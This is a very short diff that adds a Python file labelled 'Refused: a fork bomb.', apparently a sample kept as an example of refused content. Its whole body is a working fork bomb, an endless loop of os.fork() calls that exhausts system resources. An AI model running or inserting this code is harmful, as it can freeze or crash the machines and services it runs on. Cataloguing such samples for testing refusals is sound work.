@@ -1,0 +1,6 @@
+"""Refused: a fork bomb."""
+
+import os
+
+while True:
+    os.fork()
